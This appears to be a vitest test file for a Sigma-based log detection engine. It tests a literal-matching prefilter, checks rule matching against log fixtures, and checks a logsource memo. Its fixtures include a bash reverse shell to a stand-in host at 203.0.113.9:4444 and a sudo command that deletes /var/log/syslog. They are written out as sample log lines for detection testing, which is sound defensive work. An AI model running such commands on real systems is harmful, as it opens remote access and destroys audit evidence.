import { readFileSync } from 'node:fs';
import { describe, expect, it } from 'vitest';
import {
  compileRuleSet, loadDefaultMapping, loadRuleDir, parseFieldMapping, parseRuleText, type CompiledRuleSet,
} from '../../../analyzers/index.js';
import { Scanner } from '../../../analyzers/sigma/prefilter.js';
import { matchOneByOne } from './match-one-by-one.js';
import { decodeLine, decodeRecordLine } from '../../../collectors/index.js';
import { AssetIndex, loadInventory } from '../../../core/index.js';

const matchedIds = (set: CompiledRuleSet, event: Record<string, unknown>) => set.match(event).map((r) => r.id).sort();

describe('rule set prefilter and logsource memo', () => {
  it('Scanner finds exactly the literals that includes() finds in the lowercased text, overlapping, in any case and beyond ASCII', () => {
    let seed = 7;
    const random = (n: number) => ((seed = (seed * 1_103_515_245 + 12_345) % 2 ** 31) % n);
    // Kelvin sign and dotted İ lowercase to ASCII (İ to two units); Σ lowercases by context.
    const alphabet = ['a', 'b', 'c', 'A', 'B', 'k', 'i', '\u212a', '\u0130', '\u0307', 'Σ', 'σ', 'é', 'É', '€', '\u{1d11e}', ' ', '/'];
    const text = (length: number) => Array.from({ length }, () => alphabet[random(alphabet.length)]).join('');
    const literals = [...new Set([...Array.from({ length: 60 }, () => text(1 + random(4)).toLowerCase()), 'aa', 'aaa', 'a', 'ba', 'ab', 'k', 'i\u0307'])];
    const scanner = new Scanner(literals.map((literal, id) => ({ literal, id })));
    const found = new Int32Array(literals.length);
    const hits = new Int32Array(literals.length);
    let total = 0;
    let wide = 0;
    for (let generation = 1; generation <= 600; generation += 1) {
      const sample = text(random(30));
      const count = scanner.scanLower(sample, found, generation, hits, 0);
      const scanned = literals.filter((_, id) => found[id] === generation);
      expect(scanned, sample).toEqual(literals.filter((l) => sample.toLowerCase().includes(l)));
      // Each literal found is listed once.
      expect([...hits.subarray(0, count)].sort((a, b) => a - b), sample).toEqual(scanned.map((l) => literals.indexOf(l)));
      total += count;
      if ([...sample].some((c) => c.charCodeAt(0) > 0x7f) && count > 0) wide += 1;
    }
    expect(total).toBeGreaterThan(300);
    expect(wide).toBeGreaterThan(50);
  });

  it('keeps the table small for a pasted 20,000-character CJK literal, and still finds it (a rule then runs its full test)', () => {
    const cjk = Array.from({ length: 20_000 }, (_, i) => String.fromCharCode(0x4e00 + i)).join('');
    const scanner = new Scanner([{ literal: cjk, id: 0 }, { literal: 'abc', id: 1 }]);
    // Without the caps: 20,001 states × 20,129 columns, 1.6 GB.
    expect(scanner.tableSize).toBeLessThan(100_000);
    const found = new Int32Array(2);
    const hits = new Int32Array(2);
    expect(scanner.scanLower(`x${cjk}y abc`, found, 1, hits, 0)).toBe(2);
    expect(scanner.scanLower('abc 一丁', found, 2, hits, 0)).toBe(1);
  });

  it('SigmaHQ and our rules: match() equals running every rule one by one on decoded events', async () => {
    const mapping = loadDefaultMapping();
    const documents = [
      ...(await loadRuleDir('test/fixtures/sigma/rules')).documents,
      ...(await loadRuleDir('rules')).documents,
    ];
    const set = compileRuleSet(documents, { mapping });
    const inOrder = matchOneByOne(set, mapping);
    const expected = (event: Record<string, unknown>) => inOrder(event).sort();
    const assets = new AssetIndex(loadInventory('config/inventory.demo.yaml'));
    const context = { utcOffset: '+08:00', now: new Date('2026-11-26T00:00:00Z') };
    const lines = (file: string, count: number) => readFileSync(`test/fixtures/logs/${file}`, 'utf8').split('\n').filter(Boolean).slice(0, count);
    const events: Record<string, unknown>[] = [];
    const add = (texts: string[], format?: string) => texts.forEach((text, i) => {
      const line = { text, position: String(i) };
      const decoded = format ? decodeRecordLine(line, 'test', assets, context, format) : decodeLine(line, 'test', assets, context);
      if (decoded.ok) events.push(decoded.event);
    });
    add(lines('loghub/Linux/Linux_2k.log', 400));
    add(lines('loghub/OpenSSH/OpenSSH_2k.log', 300));
    add(lines('elastic-beats-filebeat-tests/system-auth/test.log', 200));
    add(lines('elastic-examples-apache_logs/apache_logs', 300), 'access-log');
    add(lines('elastic-beats-filebeat-tests/auditd/test.log', 200), 'auditd');
    add([
      'Nov 26 10:00:00 web01 sshd[1]: Corrupted MAC on input.',
      'Nov 26 10:00:00 web01 bash[2]: bash -i >& /dev/tcp/203.0.113.9/4444 0>&1',
      'Nov 26 10:00:00 web01 sudo[3]: ops : TTY=pts/0 ; PWD=/ ; USER=root ; COMMAND=/usr/bin/rm -rf /var/log/syslog',
    ]);
    add(['type=EXECVE msg=audit(1764150000.123:77): argc=3 a0="tar" a1="-czf" a2="/tmp/x.tgz"'], 'auditd');
    let matches = 0;
    for (const event of events) {
      const want = expected(event);
      expect(matchedIds(set, event)).toEqual(want);
      matches += want.length;
    }
    expect(matches).toBeGreaterThan(20);
  });

  it('logsource memo: arrays, objects, numbers and text of one value give each their own outcome', () => {
    const mapping = parseFieldMapping(`
keywordFields: [message]
logsources:
  - name: tagged
    logsource: { product: p }
    when: { event.dataset: web, tags|exists: true }
  - name: coded
    logsource: { product: q }
    when: { code: [4, '10'] }
`, 'test.yaml');
    const { documents } = parseRuleText(`title: P
id: 11111111-1111-4111-8111-111111111111
logsource: { product: p }
level: low
detection:
  sel: { url|contains: admin }
  condition: sel
---
title: Q
id: 22222222-2222-4222-8222-222222222222
logsource: { product: q }
level: low
detection:
  sel: { message|contains|all: [fail, root] }
  condition: sel
`, 'rules.yml');
    const set = compileRuleSet(documents, { mapping });
    expect(set.problems).toEqual([]);
    const inOrder = matchOneByOne(set, mapping);
    const expected = (event: Record<string, unknown>) => inOrder(event).sort();
    const events: Record<string, unknown>[] = [
      { event: { dataset: 'web' }, tags: 'x', url: '/ADMIN/x' },
      { event: { dataset: 'web' }, url: '/admin/x' },
      { event: { dataset: ['web'] }, tags: null, url: '/admin' },
      { event: { dataset: ['web', 'other'] }, tags: [], url: ['/x', '/admin'] },
      { event: { dataset: { name: 'web' } }, tags: 1, url: '/admin' },
      { 'event.dataset': 'web', tags: 1, url: '/admin' },
      { event: { dataset: 'WEB' }, tags: 1, url: '/admin' },
      { code: 4, message: 'FAIL for ROOT' },
      { code: '4', message: 'fail for root' },
      { code: 10, message: 'fail root' },
      { code: '10', message: 'root fail' },
      { code: [10], message: ['fail', 'root fail'] },
      { code: 5, message: 'fail root' },
      { code: { value: 4 }, message: 'fail root' },
    ];
    // Twice, so the second pass reads outcomes the first one remembered.
    for (let pass = 0; pass < 2; pass += 1) {
      for (const event of events) expect(matchedIds(set, event), JSON.stringify(event)).toEqual(expected(event));
    }
    expect(events.filter((e) => expected(e).length > 0).length).toBeGreaterThan(6);
  });
});
